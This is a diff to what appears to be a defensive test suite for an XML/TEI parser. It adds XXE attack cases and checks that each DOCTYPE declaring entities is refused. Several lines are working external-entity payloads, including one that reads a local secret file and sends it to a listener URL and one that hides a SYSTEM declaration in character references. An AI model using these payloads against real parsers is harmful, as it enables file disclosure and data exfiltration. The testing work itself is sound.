@@ -287,6 +287,16 @@ ATTACKS = [
         f'<!ENTITY % file SYSTEM "{b.secret.as_uri()}">'
         f'<!ENTITY % wrap "<!ENTITY leak SYSTEM \'{b.listener.url("?x=%file;")}\'>"> %wrap;]>',
         "&leak;"), r"DOCTYPE that declares entities"),
+    # Parameter entities with plain values are read (TEI's module switches); these are
+    # not: a reference to one, and a character reference that would make a declaration.
+    Attack("parameter-entity-referenced", lambda b: with_doctype(
+        '<!DOCTYPE TEI [<!ENTITY % a "INCLUDE"> %a;]>'), r"DOCTYPE that declares entities"),
+    Attack("parameter-entity-made-of-character-references", lambda b: with_doctype(
+        f'<!DOCTYPE TEI [<!ENTITY % wrap "&#60;!ENTITY leak SYS&#84;EM '
+        f"'{b.secret.as_uri()}'>\"> %wrap;]>", "&leak;"), r"DOCTYPE that declares entities"),
+    Attack("parameter-entities-beside-a-general-one", lambda b: with_doctype(
+        '<!DOCTYPE TEI [<!ENTITY % a "INCLUDE"><!ENTITY lol "lol">]>', "&lol;"),
+        r"DOCTYPE that declares entities"),
     # A DOCTYPE that only names a DTD is accepted (TEI files often have one) and the
     # DTD is never read: what only it could define is refused, not left out.
     Attack("external-dtd-local", lambda b: with_doctype(
